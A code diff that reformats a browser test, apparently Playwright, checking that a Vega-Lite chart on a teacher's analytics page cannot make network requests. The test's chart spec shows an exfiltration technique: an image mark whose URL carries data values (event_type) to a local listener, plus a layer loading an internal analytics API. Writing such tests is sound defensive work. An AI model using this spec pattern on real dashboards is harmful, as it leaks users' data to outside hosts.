@@ -37,14 +37,23 @@ def listener():
 
 def test_a_chart_cannot_reach_the_network_from_the_browser(page, log_in, listener):
     port, hits = listener
-    spec = {"layer": [
-        {"mark": "bar", "encoding": {"x": {"field": "event_type", "type": "nominal"},
-                                     "y": {"field": "events", "type": "quantitative"}}},
-        {"data": {"url": "/api/v1/sections/chem-fall/analytics/categories/video"}, "mark": "point"},
-        {"mark": {"type": "image", "width": 10, "height": 10},
-         "transform": [{"calculate": f"'http://127.0.0.1:{port}/b.png?u=' + datum.event_type", "as": "u"}],
-         "encoding": {"x": {"field": "event_type", "type": "nominal"}, "url": {"field": "u", "type": "nominal"}}},
-    ]}
+    spec = {
+        "layer": [
+            {
+                "mark": "bar",
+                "encoding": {
+                    "x": {"field": "event_type", "type": "nominal"},
+                    "y": {"field": "events", "type": "quantitative"},
+                },
+            },
+            {"data": {"url": "/api/v1/sections/chem-fall/analytics/categories/video"}, "mark": "point"},
+            {
+                "mark": {"type": "image", "width": 10, "height": 10},
+                "transform": [{"calculate": f"'http://127.0.0.1:{port}/b.png?u=' + datum.event_type", "as": "u"}],
+                "encoding": {"x": {"field": "event_type", "type": "nominal"}, "url": {"field": "u", "type": "nominal"}},
+            },
+        ]
+    }
     requests: list[str] = []
     page.on("request", lambda request: requests.append(request.url))
     log_in(page, "teacher")
